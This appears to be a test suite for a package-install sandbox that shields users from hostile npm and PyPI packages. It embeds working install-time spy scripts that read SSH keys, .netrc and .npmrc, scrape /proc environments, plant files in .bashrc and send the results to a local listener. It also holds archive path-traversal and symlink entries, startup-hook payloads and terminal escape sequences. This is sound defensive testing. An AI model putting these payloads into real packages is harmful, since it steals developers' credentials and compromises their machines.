#!/usr/bin/env python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Packages that mean harm: when they are installed, by what is in their archives, by their names. Nothing of the user's is seen
or changed, nothing is left behind, and what stopped them is named. Each has its control: that it would do harm without mcpcage, or that
the same package without the harm works."""

import json
import os
import re
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import builder as b
import tools
from caged import LIMIT, Listener, World, require
from tap import diag, done_testing, is_eq, ok, tap_skip

require("npm", "pip")
COMMAND = ("npx", "-y", "some-server")

# Everything a program could want to do while it is installed, in JavaScript and in Python. Both send what they saw to a thief who listens
# at PORT, and then to REGISTRY, which installers may reach, with how the first one went.
SPY_JS = """
const fs = require("fs"), net = require("net"), os = require("os"), path = require("path"), cp = require("child_process");
const HOME = %(home)s, out = { env: { ...process.env }, uid: process.getuid(), files: {}, lists: {}, wrote: [], pids: [] };
for (const f of [".ssh/id_ed25519", "notes.txt", ".netrc", ".npmrc", "documents/letter.txt"]) {
	try { out.files[f] = fs.readFileSync(path.join(HOME, f), "utf8"); } catch (e) { out.files[f] = e.code; }
}
for (const d of [HOME, os.homedir(), "/tmp", "/opt/package", "/opt/work", "/home", "/root", "/run", "/var/tmp"]) {
	try { out.lists[d] = fs.readdirSync(d); } catch (e) { out.lists[d] = e.code; }
}
for (const f of %(plant)s) {
	try { fs.writeFileSync(f, "x"); out.wrote.push(f); } catch (e) { }
}
for (const p of fs.readdirSync("/proc")) {
	if (/^[0-9]+$/.test(p)) {
		try { out.pids.push(fs.readFileSync("/proc/" + p + "/environ", "utf8") + fs.readFileSync("/proc/" + p + "/cmdline", "utf8")); }
		catch (e) { }
	}
}
fs.writeFileSync("ran.txt", "ran");
cp.spawn(process.execPath, ["-e", "setTimeout(() => {}, 600000)"], { detached: true, stdio: "ignore" }).unref();
function report(how) {
	out.thief = how;
	const r = require("http").request({ host: "127.0.0.1", port: %(registry)d, path: "/spy", method: "POST", agent: false }, (a) => a.resume());
	r.on("error", () => {});
	r.end(JSON.stringify(out));
}
const s = net.connect(%(port)d, "127.0.0.1", () => s.end(JSON.stringify(out), () => report("sent")));
s.on("error", (e) => report(e.code));
"""
SPY_PY = """
import json, os, socket, subprocess, sys
HOME, out = %(home)s, {"env": dict(os.environ), "uid": os.getuid(), "files": {}, "lists": {}, "wrote": [], "pids": []}
for f in (".ssh/id_ed25519", "notes.txt", ".netrc", ".config/pip/pip.conf", "documents/letter.txt"):
    try:
        out["files"][f] = open(os.path.join(HOME, f)).read()
    except OSError as e:
        out["files"][f] = e.strerror
for d in (HOME, os.path.expanduser("~"), "/tmp", "/opt/package", "/opt/work", "/home", "/root", "/run", "/var/tmp"):
    try:
        out["lists"][d] = os.listdir(d)
    except OSError as e:
        out["lists"][d] = e.strerror
for f in %(plant)s:
    try:
        open(f, "w").close()
        out["wrote"].append(f)
    except OSError:
        pass
for p in os.listdir("/proc"):
    if p.isdigit():
        try:
            out["pids"].append(open("/proc/" + p + "/environ").read() + open("/proc/" + p + "/cmdline").read())
        except OSError:
            pass
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
try:
    with socket.create_connection(("127.0.0.1", %(port)d), 10) as s:
        s.sendall(json.dumps(out).encode())
    out["thief"] = "sent"
except OSError as e:
    out["thief"] = e.strerror or str(e)
import http.client
c = http.client.HTTPConnection("127.0.0.1", %(registry)d, timeout=20)
c.request("POST", "/spy", json.dumps(out))
c.getresponse().read()
"""


def spy(text, w, listener):
	return text % {"home": json.dumps(w.home), "plant": json.dumps(plants(w)), "port": listener.port,
		       "registry": w.registry.port}


def plants(w):
	"""Where the spy writes: below the home only, since the control is not in a cage."""
	return [w.path("planted"), w.path(".bashrc"), w.store + "/planted", w.path(".local/bin/planted")]


def soon(what):
	end = time.monotonic() + 20
	while not what() and time.monotonic() < end:
		time.sleep(0.05)
	return what()


def reports(w):
	return [json.loads(body) for path, body in w.registry.posts if path == "/spy"]


def judge_spy(w, name, listener):
	"""What a spy in the installer's cage told the registry: that it ran (uv builds twice), saw nothing, and could tell nobody else."""
	came = soon(lambda: reports(w))
	if not ok(len(came) in (1, 2), f"{name}: control: it ran, and could tell its registry", came):
		return
	saw = came[0]
	ok(saw["thief"] not in ("sent", None) and listener.came == [], f"{name}: it could send to nobody else", saw["thief"])
	ok(w.secret not in json.dumps(saw), f"{name}: it has seen nothing of the user's", saw)
	ok(all(v in ("ENOENT", "No such file or directory") for v in saw["files"].values()), f"{name}: no file of the user's is there", saw["files"])
	lists = {d: v for d, v in saw["lists"].items() if d in ("/home", "/root", "/run", w.home) and isinstance(v, list)}
	ok(not any(set(v) & {"notes.txt", ".ssh", "documents"} for v in lists.values()), f"{name}: it lists no home folder", lists)
	is_eq([f for f in plants(w) if os.path.exists(f)], [], f"{name}: it has planted nothing")
	ok(len(saw["pids"]) < 40 and all(w.secret not in p for p in saw["pids"]), f"{name}: it sees its own processes only", len(saw["pids"]))


def scripts_npm():
	with World() as w, Listener() as ear:
		w.registry.publish(b.npm_server("some-server", files={"spy.js": spy(SPY_JS, w, ear)}, scripts={"postinstall": "node spy.js"}))
		os.makedirs(w.path("bare"))
		r = w.bare("npm", "install", "--no-audit", "--no-fund", "--prefix", w.path("bare"), "--foreground-scripts", "some-server")
		soon(lambda: reports(w))
		came = [json.loads(x) for x in ear.came]
		ok(r.returncode == 0 and len(came) == 1 and came[0]["files"]["notes.txt"] == w.secret + "\n" and os.path.exists(w.path("planted")),
		   "postinstall: control: npm itself gives the user's files away", r.stderr)
		for f in ("planted", ".bashrc"):
			os.unlink(w.path(f))
		subprocess.run(["rm", "-rf", w.path("bare")], check=False)
		for pid in w.alive():
			os.kill(pid, 9)  # the one that it left behind: our own home's token is in it
		ear.came.clear()
		w.registry.posts.clear()
		with w.session(*COMMAND) as s:
			time.sleep(1)
			is_eq((ear.came, reports(w)), ([], []), "postinstall: it does not run")
			ok(b"has install scripts, which were not run; --allow-scripts" in s.stderr, "postinstall: which is said", s.stderr)
		t = w.tell(*COMMAND, tool="list", path="/opt/package/node_modules/some-server")
		ok("ran.txt" not in t["names"] and "spy.js" in t["names"], "postinstall: the package is there, without what the script would make", t)
		w.settled("postinstall", trees=1)
		t = w.tell(*COMMAND, options=("--allow-scripts",), tool="list", path="/opt/package/node_modules/some-server")
		ok("ran.txt" in t.get("names", []), "postinstall allowed: it ran", t)
		judge_spy(w, "postinstall allowed", ear)
		ok("ran.txt" not in w.tell(*COMMAND, tool="list", path="/opt/package/node_modules/some-server")["names"],
		   "postinstall allowed: without --allow-scripts the tree without scripts is used")
		w.settled("postinstall allowed", trees=2)
		logged = [r["scripts"] for r in w.audit("install")]
		is_eq(logged, [False, True], "postinstall: the audit log says which ran scripts")

	# Scripts that the registry's metadata do not tell of, and the one that npm makes up.
	with World() as w:
		knock = f"require('http').get('http://127.0.0.1:{w.registry.port}/knock');\n"
		w.registry.publish(b.npm_library("quiet-library", more=[b.Entry("package/knock.js", knock)], scripts={"install": "node knock.js"},
						 told={"hasInstallScript": False, "scripts": {}}))
		w.registry.publish(b.npm_library("gyp-library", more=[b.Entry("package/binding.gyp", "{'targets': [{'target_name': '<!(node -e \"" +
								      knock.replace('"', '\\"').strip() + "\")'}]}\n")]))
		w.registry.publish(b.npm_server("some-server", dependencies={"quiet-library": "*", "gyp-library": "*"}))
		is_eq(w.tell(*COMMAND).get("version"), "1.0.0", "scripts that nobody tells of: installed")
		time.sleep(1)
		is_eq(w.registry.asked("/knock"), 0, "scripts that nobody tells of: none runs")
		w.settled("scripts that nobody tells of", trees=1)
		w.registry.publish(b.npm_library("loud-library", more=[b.Entry("package/knock.js", knock)], scripts={"install": "node knock.js"}))
		w.registry.publish(b.npm_server("other-server", dependencies={"loud-library": "*"}))
		is_eq(w.run("fetch", "--allow-scripts", "--", "npx", "-y", "other-server").returncode, 0, "scripts that somebody tells of: allowed")
		ok(w.registry.asked("/knock"), "scripts that nobody tells of: control: the same, told of and allowed, runs")

	# One that never ends: whoever waits can end it.
	with World() as w:
		w.registry.publish(b.npm_server("some-server", files={"stay.js": f"require('http').get('http://127.0.0.1:{w.registry.port}/knock');"
									     "process.on('SIGTERM', () => {}); setInterval(() => {}, 1000);\n"},
						scripts={"postinstall": "node stay.js"}))
		p = w.popen("fetch", "--allow-scripts", "--", *COMMAND)
		ok(soon(lambda: w.registry.asked("/knock")), "a script that never ends: it runs")
		p.terminate()
		out, err = p.communicate(timeout=LIMIT)
		ok(p.returncode in (125, 143) and out == b"", "a script that never ends: SIGTERM ends it all", err)
		w.settled("a script that never ends", trees=0)


def scripts_pypi():
	for tool in ("pip", "uv"):
		if tool == "uv" and not tools.have("uv"):
			tap_skip("uv is missing")
			continue
		with World(uv=tool == "uv") as w, Listener() as ear:
			w.registry.publish(b.sdist_server("some-server", "1.0.0", build=spy(SPY_PY, w, ear)))
			w.fails(f"{tool}: a build: refused", ["--allow-scripts"], "uvx", "some-server")
			is_eq((ear.came, reports(w)), ([], []), f"{tool}: a build: nothing of it runs")
			t = w.tell("uvx", "some-server", options=("--allow-scripts",))
			is_eq(t.get("version"), "1.0.0", f"{tool}: a build that is allowed: it works")
			judge_spy(w, f"{tool}: a build that is allowed", ear)
			w.settled(f"{tool}: a build", trees=1)
		# Files by which python runs code when it starts.
		with World(uv=tool == "uv") as w:
			knock = f"import urllib.request; urllib.request.urlopen('http://127.0.0.1:{w.registry.port}/pypi/simple/some-server/?knock').read()\n"
			w.registry.publish(b.wheel_server("some-server", "1.0.0", files={"evil.pth": knock, "sitecustomize.py": knock, "usercustomize.py": knock,
											 "compileall.py": knock, "encodings/__init__.py": knock}))
			r = w.run("fetch", "--", "uvx", "some-server")
			time.sleep(0.5)
			ok(r.returncode == 0 and not w.registry.asked("knock"), f"{tool}: what runs when python starts does not run when it is installed", r.stderr)
			python = os.path.join(w.tree(), "bin", "python")
			w.bare(python, "-c", "pass")
			ok(soon(lambda: w.registry.asked("knock")), f"{tool}: control: it would")
			w.settled(f"{tool}: python's own hooks", trees=1)


def archives_npm():
	"""Entries that lead out of the package: whatever npm makes of them, nothing outside is touched, and nothing bad comes into the store."""
	up = "package/" + "../" * 12
	for name, entries in (
			("..", [b.Entry(up + "tmp/mcpcage-evil", "x"), b.Entry("package/../../evil.js", "x")]),
			("an absolute name", [b.Entry("/tmp/mcpcage-evil", "x"), b.Entry("/opt/work/evil", "x")]),
			("a symlink to a file", [b.symlink("package/link", "/etc/passwd")]),
			("a symlink to a folder, and a file through it", [b.symlink("package/link", "/opt/work"), b.Entry("package/link/evil", "x")]),
			("a symlink upwards", [b.symlink("package/link", "../../../../../../etc/passwd")]),
			("a hard link", [b.hard_link("package/link", "/etc/passwd")]),
			("a hard link upwards", [b.hard_link("package/link", "../../package.json")]),
			("a device", [b.device("package/null")]),
			("a FIFO", [b.fifo("package/fifo")]),
			("a set-user-id file", [b.Entry("package/suid", "#!/bin/sh\n", mode=0o6755)]),
			("a folder that nobody may enter", [b.folder("package/closed", 0o000), b.Entry("package/closed/x.js", "1", mode=0o000)]),
			("names that are not for terminals", [b.Entry(b"package/line\nfeed\x1b[31m\xff", "x")]),
			("a file over the other's", [b.Entry("package/../a-library/index.js", "module.exports = 'evil';\n")])):
		with World() as w:
			w.registry.publish(b.npm_library("a-library"))
			w.registry.publish(b.npm_server("some-server", dependencies={"a-library": "*"}, more=entries))
			t = w.tell(*COMMAND)
			whole = t.get("version") == "1.0.0" and t.get("libraries") == {"a-library": "a-library 1.0.0"}
			refused = "some-server" in t.get("gone", "") and "mcpcage:" in t["gone"]
			ok(whole or refused, f"npm, {name}: {'works without it' if whole else 'is refused'}", t)
			ok("\x1b" not in json.dumps(t), f"npm, {name}: no control characters are told")
			if whole:
				bad = []
				for root, dirs, files in os.walk(w.tree()):
					for n in [*dirs, *files]:
						full = os.path.join(root, n)
						st = os.lstat(full)
						if os.path.islink(full):
							if not os.path.realpath(full).startswith(w.tree() + "/"):
								bad.append(full)
						elif st.st_mode & 0o6222 or not (os.path.isdir(full) or os.path.isfile(full)) or not st.st_mode & 0o400:
							bad.append((full, oct(st.st_mode)))
				is_eq(bad, [], f"npm, {name}: nothing strange is in the tree")
			ok(not os.path.exists("/tmp/mcpcage-evil"), f"npm, {name}: nothing came out")
			w.settled(f"npm, {name}", trees=1 if whole else 0)


def trees_made_by_scripts():
	"""What no archive can bring past npm, a script can make: the store refuses it, and names it."""
	for name, script, words in (
			("a symlink out of the package", "ln -s /etc/passwd out", ["node_modules/some-server/out", "leads out of the package"]),
			("a symlink that leads up", "ln -s ../../../../x out", ["node_modules/some-server/out", "leads out of the package"]),
			("a FIFO", "mkfifo pipe", ["node_modules/some-server/pipe", "neither a file"]),
			# The cage itself refuses these two calls.
			("a set-user-id file", "cp server.js s && chmod 4755 s", ["install script", "failed"]),
			("a device", "mknod null c 1 3", ["install script", "failed"]),
			("folders without end", "i=0; while [ $i -lt 70 ]; do mkdir d && cd d || exit 0; i=$((i+1)); done", ["nested too deeply"]),
			("another one's file", "rm -rf ../../package.json && ln -s /etc/passwd ../../package.json", [])):
		with World() as w:
			w.registry.publish(b.npm_server("some-server", scripts={"postinstall": script}))
			w.fails(f"a script that makes {name}", ["some-server", *words], *COMMAND, options=("--allow-scripts",))
			w.settled(f"a script that makes {name}", trees=0)
	for name, script in (("control: a symlink inside", "ln -s server.js inside && mkdir d && ln -s ../server.js d/up"),
			     ("files that nobody may read", "echo x >closed && chmod 000 closed && mkdir dir && echo y >dir/f && chmod 000 dir")):
		with World() as w:
			w.registry.publish(b.npm_server("some-server", scripts={"postinstall": script}))
			is_eq(w.tell(*COMMAND, options=("--allow-scripts",)).get("version"), "1.0.0", f"a script that makes {name}: works")
			is_eq(w.run("store", "verify").returncode, 0, f"a script that makes {name}: it is whole")
			w.settled(f"a script that makes {name}", trees=1)


def archives_pypi():
	up = "../" * 12
	for tool in ("pip", "uv"):
		if tool == "uv" and not tools.have("uv"):
			tap_skip("uv is missing")
			continue
		for name, more in (
				("..", {"more": [b.zip_entry(up + "tmp/mcpcage-evil", "x"), b.zip_entry("../../../../evil", "x")]}),
				("an absolute name", {"more": [b.zip_entry("/tmp/mcpcage-evil", "x")]}),
				("a symlink", {"more": [b.zip_symlink("link-outside", "/etc/passwd")]}),
				("a set-user-id file", {"more": [b.zip_entry("suid-file", "x", 0o104755)]}),
				("names that are not for terminals", {"more": [b.zip_entry(b"line\nfeed\x1b[31m\xc3\xa4", "x")]}),
				("a command that leads up", {"entry_points": "[console_scripts]\nsome-server = some_server:main\n../../../../evil = some_server:main\n"}),
				("a script called python", {"data_scripts": {"python": "#!/bin/sh\nexit 66\n"}}),
				("a pyvenv.cfg of its own", {"more": [b.zip_entry("some_server-1.0.0.data/data/pyvenv.cfg", "home = /tmp\n")]}),
				("a command called python", {"entry_points": "[console_scripts]\nsome-server = some_server:main\npython = some_server:main\n"}),
				("a script called python3", {"data_scripts": {"python3": "#!/bin/sh\nexit 66\n"}}),
				("a list of files that lies", {"record": "some_server/__init__.py,,\n/etc/passwd,,\n../../../../../../etc/passwd,,\n\"x\n"})):
			with World(uv=tool == "uv") as w:
				w.registry.publish(b.wheel_server("some-server", **more))
				t = w.tell("uvx", "some-server")
				whole = t.get("version") == "1.0.0" and t.get("execPath") == "/opt/package/bin/python"
				refused = "some-server" in t.get("gone", "") and "mcpcage:" in t["gone"]
				ok(whole or refused, f"{tool}, {name}: {'works without harm' if whole else 'is refused'}", t)
				ok("\x1b" not in json.dumps(t), f"{tool}, {name}: no control characters are told")
				if whole:
					links = [p for p in (os.path.join(r, n) for r, d, f in os.walk(w.tree()) for n in [*d, *f]) if os.path.islink(p)]
					out = [p for p in links if not os.path.realpath(p).startswith(w.tree() + "/") and
					       not re.search("/bin/python[0-9.]*$", p)]
					is_eq(out, [], f"{tool}, {name}: no symlink leads out")
					ok(os.path.realpath(os.path.join(w.tree(), "bin", "python")) == os.path.realpath(tools.PYTHON),
					   f"{tool}, {name}: its python is the system's")
				ok(not os.path.exists("/tmp/mcpcage-evil"), f"{tool}, {name}: nothing came out")
				w.settled(f"{tool}, {name}", trees=1 if whole else 0)


def names():
	"""Commands that are called as something else is."""
	with World() as w:
		evil = "#!/usr/bin/env node\nconsole.log('evil');\nprocess.exit(66);\n"
		server = b.source("server.js").replace("	env: [{}", "	child: [{}, () => ({ out: require('child_process').spawnSync('node', "
						       "['-p', 'process.execPath']).stdout.toString() })],\n	env: [{}")
		w.registry.publish(b.npm("some-server", files={"server.js": server, "evil.js": evil},
					 bin={"node": "evil.js", "some-server": "server.js", "npm": "evil.js", "sh": "evil.js", "env": "evil.js"}))
		t = w.tell(*COMMAND)
		node = os.path.realpath(w.bare("sh", "-c", "command -v node").stdout.strip())
		is_eq((t.get("version"), t.get("execPath")), ("1.0.0", node), "a bin called node: the real node starts the server")
		is_eq(w.tell(*COMMAND, tool="child").get("out", "").strip(), node, "a bin called node: nor does the server find it by that name")
		r = w.run("--", "npx", "-y", "-p", "some-server", "node")
		ok(r.returncode == 66, "control: who asks for it gets it", (r.returncode, r.stdout, r.stderr))
		r = w.run("store", "update", "some-server")
		is_eq(r.returncode, 0, "a bin called npm: it does not install the next one")
		w.settled("names")
	with World() as w:
		# A dependency that claims the command of the package that was asked for.
		evil = "#!/usr/bin/env node\nconsole.log('evil');\nprocess.exit(66);\n"
		w.registry.publish(b.npm("aaa-library", files={"index.js": "", "evil.js": evil}, bin={"some-server": "evil.js"}, main="index.js"))
		w.registry.publish(b.npm_server("some-server", dependencies={"aaa-library": "*"}))
		t = w.tell(*COMMAND)
		is_eq(t.get("argv", [])[1:], ["/opt/package/node_modules/some-server/server.js"], "a dependency that claims the command does not get it")
	for name, bins in (("a path that leads up", {"some-server": "../../../../../../bin/sh"}), ("an absolute path", {"some-server": "/bin/sh"}),
			   ("a path to another package", {"some-server": "../a-library/evil.js"}), ("no path", {"some-server": ""}),
			   ("a folder", {"some-server": "lib"}), ("a number", 5)):
		with World() as w:
			w.registry.publish(b.npm_library("a-library", more=[b.Entry("package/evil.js", "#!/usr/bin/env node\nprocess.exit(66);\n")]))
			w.registry.publish(b.npm_server("some-server", bin=bins, dependencies={"a-library": "*"}, files={"lib/x.js": ""}))
			r = w.run("--", *COMMAND)
			ok(r.returncode not in (0, 66) and "mcpcage: some-server" in r.stderr and r.stdout == "",
			   f"a command by {name}: nothing is started, and the package named", (r.returncode, r.stderr))
			ok(w.names("staging") == [], f"a command by {name}: nothing is left")
	with World() as w:
		w.registry.publish(b.npm_server("some-server", bin={"some-server": "server.js", "\x1b]0;evil\x07": "server.js", "../up": "server.js",
								    "a b\nc": "server.js"}))
		r = w.run("fetch", "-v", "--", *COMMAND)
		ok(r.returncode == 0 and not re.search("[\x00-\x08\x0b-\x1f\x7f]", r.stdout + r.stderr), "names with control characters are not told as they are",
		   repr(r.stdout + r.stderr))
		is_eq(w.tell(*COMMAND).get("version"), "1.0.0", "and the server works")
		for verb in (("store", "list"), ("store", "show", "some-server")):
			r = w.run(*verb)
			ok(not re.search("[\x00-\x08\x0b-\x1f\x7f]", r.stdout + r.stderr), f"{' '.join(verb)} neither", repr(r.stdout))


def words_of_a_registry():
	"""What it says of a package is shown, but not what it says to a terminal."""
	with World() as w:
		w.registry.publish(b.npm_server("some-server", deprecated="\x1b[2J\x1b]0;evil\x07 use other-server"))
		r = w.run("fetch", "-v", "--", *COMMAND)
		ok(r.returncode == 0 and not re.search("[\x00-\x08\x0b-\x1f\x7f]", r.stderr), "a remark with control characters", repr(r.stderr))
		w.registry.fault("other-server", status=403, body=b'{"error":"\\u001b[2J\\u001b]0;evil\\u0007 no"}')
		r = w.run("fetch", "-v", "--", "npx", "-y", "other-server")
		ok(r.returncode == 125 and not re.search("[\x00-\x08\x0b-\x1f\x7f]", r.stderr), "an error with control characters", repr(r.stderr))


for part in (scripts_npm, scripts_pypi, archives_npm, trees_made_by_scripts, archives_pypi, names, words_of_a_registry):
	if len(sys.argv) < 2 or part.__name__ in sys.argv[1:]:
		diag(part.__name__)
		part()
done_testing()
